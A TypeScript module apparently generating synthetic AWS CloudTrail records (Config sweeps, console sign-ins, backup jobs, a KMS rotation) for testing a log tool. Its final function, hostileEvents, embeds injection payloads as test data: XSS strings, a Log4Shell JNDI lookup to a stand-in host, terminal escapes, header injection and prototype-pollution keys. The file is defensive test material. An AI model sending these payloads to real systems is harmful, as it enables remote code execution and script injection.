/**
 * Scheduled and rare events: AWS Config's NotFound noise, console sign-ins
 * (docs/cloudtrail.md §4), nightly AWS Backup jobs, a KMS service event, and hostile input for
 * security tests.
 */
import type { CloudTrailRecord } from '../core/record';
import { buildRecord, roleCaller, rootCaller, serviceCaller, UA, userCaller } from './build';
import type { Caller, Env } from './build';
import { s3Call } from './catalogData';
import { assumeRoleCall } from './catalogOps';
import { catalogRecord } from './catalog';
import { localOffsetMs } from './rhythm';

const HOUR = 3600_000;
const DAY = 24 * HOUR;

/** Every time `first + k*period` inside [start, end]. */
function every(start: number, end: number, first: number, period: number): number[] {
  const out: number[] = [];
  for (let t = first + Math.ceil((start - first) / period) * period; t <= end; t += period) out.push(t);
  return out;
}

/** Config's recorder reads each bucket's and function's sub-configurations on a schedule; most do not exist. */
const S3_CONFIG_READS: [string, string, string, string][] = [
  ['GetBucketAcl', 'acl', '', ''],
  ['GetBucketVersioning', 'versioning', '', ''],
  ['GetBucketPolicy', 'policy', 'NoSuchBucketPolicy', 'The bucket policy does not exist'],
  ['GetBucketReplication', 'replication', 'ReplicationConfigurationNotFoundError', 'The replication configuration was not found'],
  ['GetBucketCors', 'cors', 'NoSuchCORSConfiguration', 'The CORS configuration does not exist'],
  ['GetBucketWebsite', 'website', 'NoSuchWebsiteConfiguration', 'The specified bucket does not have a website configuration'],
  [
    'GetObjectLockConfiguration',
    'object-lock',
    'ObjectLockConfigurationNotFoundError',
    'Object Lock configuration does not exist for this bucket',
  ],
];

export function configNoise(env: Env, start: number, end: number): CloudTrailRecord[] {
  const { rng, inv } = env;
  const out: CloudTrailRecord[] = [];
  const role = inv.roles.config;
  const config = serviceCaller('config.amazonaws.com');
  const hasPolicy = new Set([inv.buckets[0], inv.buckets[6]]);
  // S3 sweeps twice a day at hh:09 UTC, as on a real account (09:09, 13:09 … on a 12 h rhythm)
  for (const sweep of every(start, end - 5 * 60_000, Date.UTC(2020, 0, 1, 1, 9, 16), 12 * HOUR)) {
    const accessKeyId = `ASIA${rng.upper(16)}`;
    out.push(buildRecord(env, config, sweep, assumeRoleCall(env, role, 'AWSConfig-Describe', sweep, accessKeyId)));
    const caller = roleCaller(env, role, 'AWSConfig-Describe', {
      creationMs: sweep,
      invokedBy: 'config.amazonaws.com',
      accessKeyId,
      vpce: inv.vpcEndpointS3,
    });
    let t = sweep + 30_000;
    for (const bucket of inv.buckets) {
      for (const [name, sub, code, message] of S3_CONFIG_READS) {
        const exists =
          !code ||
          (name === 'GetBucketPolicy' && hasPolicy.has(bucket)) ||
          (name === 'GetBucketCors' && inv.corsBuckets.includes(bucket)) ||
          (name === 'GetBucketWebsite' && inv.websiteBuckets.includes(bucket));
        const call = {
          source: 's3',
          name,
          readOnly: true,
          ...s3Call({ env, caller, requestID: '', t }, sub, { bucket, bytesOut: rng.int(300, 700) }),
        };
        out.push(buildRecord(env, caller, t, exists ? call : { ...call, errorCode: code, errorMessage: message }));
      }
      t += rng.int(200, 2500);
    }
    for (const key of ['ec2:DescribeInstances', 'ec2:DescribeSecurityGroups', 'ec2:DescribeVolumes', 'ec2:DescribeNetworkInterfaces']) {
      out.push(catalogRecord(env, caller, key, (t += rng.int(100, 900))));
    }
  }
  // Lambda sub-configurations once a day
  const withPolicy = new Set(['payments-webhook', 'thumbnail-generator']);
  for (const sweep of every(start, end - 5 * 60_000, Date.UTC(2020, 0, 1, 9, 9, 17), DAY)) {
    const accessKeyId = `ASIA${rng.upper(16)}`;
    out.push(buildRecord(env, config, sweep, assumeRoleCall(env, role, 'LambdaDescribeHandlerSession', sweep, accessKeyId)));
    const caller = roleCaller(env, role, 'LambdaDescribeHandlerSession', {
      creationMs: sweep,
      invokedBy: 'config.amazonaws.com',
      accessKeyId,
    });
    let t = sweep + 2000;
    for (const functionName of inv.functions) {
      const call = { source: 'lambda', name: 'GetPolicy20150331v2', readOnly: true, req: { functionName }, version: '1.08' };
      const missing = { errorCode: 'ResourceNotFoundException', errorMessage: 'The resource you requested does not exist.' };
      out.push(buildRecord(env, caller, t, withPolicy.has(functionName) ? call : { ...call, ...missing }));
      t += rng.int(100, 1500);
    }
  }
  return out;
}

// --- console sign-in --------------------------------------------------------------------------------

interface Login {
  t: number;
  caller: Caller;
  identity: Record<string, unknown>;
  mfa: 'Yes' | 'No';
  global: boolean;
  failure?: string;
  mfaIdentifier?: string;
}

function loginRecord(env: Env, login: Login): CloudTrailRecord {
  const region = login.global ? 'us-east-1' : env.region;
  const caller: Caller = { ...login.caller, console: false, identity: () => ({ ...login.identity }) };
  return buildRecord(env, caller, login.t, {
    source: 'signin',
    name: 'ConsoleLogin',
    readOnly: false,
    req: null,
    res: { ConsoleLogin: login.failure ? 'Failure' : 'Success' },
    errorMessage: login.failure,
    add: {
      LoginTo: `https://console.aws.amazon.com/console/home?hashArgs=%23&isauthcode=true&region=${env.region}&state=hashArgsFromTB_${env.region}_${env.rng.hex(16)}`,
      MobileVersion: 'No',
      ...(login.mfaIdentifier ? { MFAIdentifier: login.mfaIdentifier } : {}),
      MFAUsed: login.mfa,
    },
    requestID: null,
    eventType: 'AwsConsoleSignIn',
    region,
    host: login.global ? 'signin.aws.amazon.com' : `${env.region}.signin.aws.amazon.com`,
  });
}

export function consoleSignIns(env: Env, start: number, end: number): CloudTrailRecord[] {
  const { rng, inv, accountId } = env;
  const out: CloudTrailRecord[] = [];
  const offset = localOffsetMs(env.region);
  const firstLocalMidnight = Math.ceil((start + offset) / DAY) * DAY - offset;
  const sso = (roleKey: 'ssoAdmin' | 'ssoReadOnly', who: string, ip: string, ua: string, t: number) => {
    const role = inv.roles[roleKey];
    const identity = {
      type: 'AssumedRole',
      principalId: `${role.id}:${who}`,
      arn: `arn:aws:sts::${accountId}:assumed-role/${role.name}/${who}`,
      accountId,
      accessKeyId: '',
    };
    return loginRecord(env, { t, caller: { arn: identity.arn, ip, ua, identity: () => identity }, identity, mfa: 'No', global: false });
  };
  const hiro = inv.users.hiro;
  const hiroIdentity = { type: 'IAMUser', principalId: hiro.id, arn: hiro.arn, accountId, accessKeyId: '', userName: hiro.name };
  let hiroFailed = false;
  for (let day = firstLocalMidnight - DAY; day < end; day += DAY) {
    const weekday = ![0, 6].includes(new Date(day + offset).getUTCDay());
    const at = (h: number) => day + h * HOUR + rng.int(0, 50 * 60) * 1000;
    const inside = (t: number) => t > start && t < end;
    if (!weekday) continue;
    const yuki = at(9);
    if (inside(yuki)) out.push(sso('ssoAdmin', 'yuki.tanaka@example.com', '203.0.113.24', UA.browser, yuki));
    const ken = at(10);
    if (inside(ken)) out.push(sso('ssoReadOnly', 'ken.sato@example.com', '192.0.2.148', UA.browserWin, ken));
    const h = at(13);
    if (inside(h) && inside(h - 40_000) && rng.chance(0.6)) {
      const caller = userCaller(env, hiro, '203.0.113.24', UA.browser);
      // a mistyped password before one of the sign-ins, at least once
      if (!hiroFailed || rng.chance(0.2)) {
        hiroFailed = true;
        out.push(
          loginRecord(env, { t: h - 40_000, caller, identity: hiroIdentity, mfa: 'No', global: false, failure: 'Failed authentication' }),
        );
      }
      out.push(
        loginRecord(env, {
          t: h,
          caller,
          identity: hiroIdentity,
          mfa: 'Yes',
          global: false,
          mfaIdentifier: `arn:aws:iam::${accountId}:mfa/${hiro.name}`,
        }),
      );
    }
  }
  // A failed sign-in with a mistyped user name (the input could be a password, so CloudTrail hides it)
  const hidden = start + (end - start) * 0.55;
  const stranger = { type: 'IAMUser', principalId: '', accountId, accessKeyId: '', userName: 'HIDDEN_DUE_TO_SECURITY_REASONS' };
  const strangerCaller: Caller = { arn: '', ip: '185.220.101.47', ua: UA.browserWin, identity: () => stranger };
  out.push(
    loginRecord(env, {
      t: hidden,
      caller: strangerCaller,
      identity: stranger,
      mfa: 'No',
      global: true,
      failure: 'No username found in supplied account',
    }),
  );
  // The root user signs in once (recorded in us-east-1) and looks at the account
  const rootT = start + (end - start) * 0.3;
  const root = rootCaller(env, '203.0.113.24', UA.browser, rootT);
  const rootIdentity = { type: 'Root', principalId: accountId, arn: `arn:aws:iam::${accountId}:root`, accountId, accessKeyId: '' };
  out.push(
    loginRecord(env, {
      t: rootT,
      caller: root,
      identity: rootIdentity,
      mfa: 'Yes',
      global: true,
      mfaIdentifier: `arn:aws:iam::${accountId}:mfa/root-account-mfa-device`,
    }),
  );
  let t = rootT + 20_000;
  for (const key of [
    'iam:GetAccountSummary',
    'iam:ListMFADevices',
    'iam:GetAccountPasswordPolicy',
    'iam:ListUsers',
    'iam:ListAccessKeys',
  ]) {
    out.push(catalogRecord(env, root, key, (t += rng.int(2000, 15000)), { ua: UA.console }));
  }
  return out;
}

/** The nightly AWS Backup plan: the service assumes its role and snapshots tables, databases and volumes. */
export function backupJobs(env: Env, start: number, end: number): CloudTrailRecord[] {
  const { rng, inv } = env;
  const out: CloudTrailRecord[] = [];
  const offset = localOffsetMs(env.region);
  const backup = serviceCaller('backup.amazonaws.com');
  for (const t0 of every(start + 60_000, end - 10 * 60_000, Date.UTC(2020, 0, 1, 3, 0, 4) - offset, DAY)) {
    const accessKeyId = `ASIA${rng.upper(16)}`;
    out.push(buildRecord(env, backup, t0, assumeRoleCall(env, inv.roles.backup, 'AWSBackup-AWSBackupDefaultServiceRole', t0, accessKeyId)));
    const caller = roleCaller(env, inv.roles.backup, 'AWSBackup-AWSBackupDefaultServiceRole', {
      creationMs: t0,
      invokedBy: 'backup.amazonaws.com',
      accessKeyId,
    });
    let t = t0 + 3000;
    for (const key of [
      'dynamodb:DescribeTable',
      'dynamodb:CreateBackup',
      'dynamodb:CreateBackup',
      'rds:DescribeDBInstances',
      'rds:CreateDBSnapshot',
      'ec2:DescribeVolumes',
      'ec2:CreateSnapshot',
      'ec2:CreateSnapshot',
    ]) {
      out.push(catalogRecord(env, caller, key, (t += rng.int(500, 20000))));
    }
  }
  return out;
}

/** An AwsServiceEvent: KMS rotates a key by itself and says so, with no request ID. */
export function serviceEvents(env: Env, start: number, end: number): CloudTrailRecord[] {
  const key = env.inv.keys[1];
  const caller: Caller = {
    arn: 'kms.amazonaws.com',
    ip: 'kms.amazonaws.com',
    ua: '',
    invokedBy: 'kms.amazonaws.com',
    identity: () => ({ accountId: env.accountId, invokedBy: 'kms.amazonaws.com' }),
  };
  const t = start + (end - start) * 0.42;
  return [
    buildRecord(env, caller, t, {
      source: 'kms',
      name: 'RotateKey',
      readOnly: false,
      req: null,
      requestID: null,
      eventType: 'AwsServiceEvent',
      resources: [{ accountId: env.accountId, type: 'AWS::KMS::Key', ARN: key.arn }],
      extra: { serviceEventDetails: { keyId: key.id } },
    }),
  ];
}

/** Attacker-controlled text in the fields an attacker controls: markup, terminal escapes, header injection, prototype keys. */
export function hostileEvents(env: Env, start: number, end: number): CloudTrailRecord[] {
  const { inv } = env;
  const name = '<script>alert(1)</script>';
  const a = userCaller(env, inv.users.hiro, '198.51.100.66', '<img src=x onerror=alert(1)>');
  const first = buildRecord(env, a, start + (end - start) * 0.62, {
    source: 'ssm',
    name: 'PutParameter',
    readOnly: false,
    req: {
      name,
      type: 'String',
      value: 'HIDDEN_DUE_TO_SECURITY_REASONS',
      overwrite: false,
      description: '"><svg onload=alert(document.domain)>',
    },
    errorCode: 'ValidationException',
    errorMessage: `1 validation error detected: Value '${name}' at 'name' failed to satisfy constraint: Member must satisfy regular expression pattern: ^[a-zA-Z0-9_.\\-/]+$`,
  });
  const b = userCaller(
    env,
    inv.users.ci,
    '198.51.100.66',
    'Mozilla/5.0 ${jndi:ldap://198.51.100.66/a}\u001b[31mRED\u001b[0m\r\nX-Injected: 1\u202etxt.exe',
  );
  const fn = "javascript:alert(1)//\"><svg/onload=alert(2)>{{constructor.constructor('alert(3)')()}}";
  const second = buildRecord(env, b, start + (end - start) * 0.71, {
    source: 'lambda',
    name: 'GetFunction20150331v2',
    readOnly: true,
    req: JSON.parse(
      `{"functionName":${JSON.stringify(fn)},"qualifier":"$LATEST\\u0000","__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}`,
    ),
    errorCode: 'ValidationException',
    errorMessage: `1 validation error detected: Value '${fn}' at 'functionName' failed to satisfy constraint: Member must satisfy regular expression pattern: (arn:(aws[a-zA-Z-]*)?:lambda:)?([a-z]{2}(-gov)?-[a-z]+-\\d{1}:)?(\\d{12}:)?(function:)?([a-zA-Z0-9-_\\.]+)(:(\\$LATEST|[a-zA-Z0-9-_]+))?`,
  });
  return [first, second];
}
